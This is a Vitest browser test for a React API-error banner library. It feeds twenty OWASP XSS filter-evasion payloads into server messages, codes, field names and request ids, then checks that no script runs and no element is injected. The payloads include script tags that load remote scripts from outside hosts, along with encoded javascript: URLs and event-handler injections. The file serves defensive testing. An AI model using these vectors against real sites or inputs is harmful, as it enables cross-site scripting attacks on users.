/**
 * In real Chromium: OWASP XSS filter-evasion vectors sent as server messages, codes, field names,
 * field messages and reference ids are rendered as text — no script runs, no element is injected.
 * Vectors from https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
 */
import { act } from 'react';
import { createRoot } from 'react-dom/client';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { ApiErrorProvider, ErrorBanner, FieldErrorList } from '../src/index.js';

const VECTORS = [
  `<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(42);//'>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert("XSS")>`,
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<iframe src=http://xss.rocks/scriptlet.html <`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<svg/onload=alert('XSS')>`,
  `<BODY ONLOAD=alert('XSS')>`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<a href="javascript:alert('XSS')">click</a>`,
];

// The banner's own severity icons are SVGs marked data-rae-icon; any other SVG would be injected.
const INJECTABLE = 'script, img, svg:not([data-rae-icon]), iframe, body, table, meta, a[href^="javascript"], div[style*="javascript"], object, embed';

afterEach(() => {
  document.body.innerHTML = '';
  vi.restoreAllMocks();
});

async function mount(ui: React.ReactNode): Promise<HTMLElement> {
  const host = document.createElement('div');
  document.body.appendChild(host);
  await act(async () => {
    createRoot(host).render(ui);
  });
  return host;
}

describe('server text is never markup (real Chromium)', () => {
  it.each(VECTORS.map((v, i) => [i, v] as const))('vector %i stays text everywhere it can appear', async (_i, vector) => {
    const alert = vi.spyOn(window, 'alert').mockImplementation(() => undefined);
    const error = {
      status: 422,
      headers: { 'x-request-id': vector },
      body: { code: vector, message: vector, errors: [{ errorCode: vector, message: vector, subject: vector }] },
    };
    const laravel = { status: 422, body: { message: vector, errors: { [vector]: [vector] } } };
    const host = await mount(
      <ApiErrorProvider trustServerMessages>
        <ErrorBanner error={error} onRetry={() => undefined} />
        <ErrorBanner error={{ status: 500, headers: { 'x-request-id': vector }, body: { error: { code: vector, message: vector } } }} />
        <FieldErrorList error={laravel} />
        <FieldErrorList error={error} />
      </ApiErrorProvider>,
    );
    for (const d of host.querySelectorAll('details')) d.open = true;
    await new Promise((r) => setTimeout(r, 50));
    expect(host.querySelectorAll(INJECTABLE)).toHaveLength(0);
    expect(alert).not.toHaveBeenCalled();
    expect(host.textContent).toContain(vector.slice(0, 20));
  });
});
